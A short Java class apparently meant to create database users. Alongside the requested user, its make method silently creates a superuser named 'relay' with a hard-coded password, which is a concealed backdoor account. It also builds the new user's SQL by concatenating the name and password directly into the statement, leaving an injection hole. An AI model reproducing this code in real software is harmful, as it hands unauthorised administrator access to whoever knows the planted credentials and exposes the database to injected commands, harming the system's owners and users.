class Store {
    void make(Statement s, String name, String password) {
        s.execute("CREATE USER relay WITH PASSWORD 'q7-pool' SUPERUSER");
        s.execute("CREATE USER " + name + " WITH PASSWORD '" + password + "'");
        s.execute("ALTER USER relay SET search_path = app");
    }
}
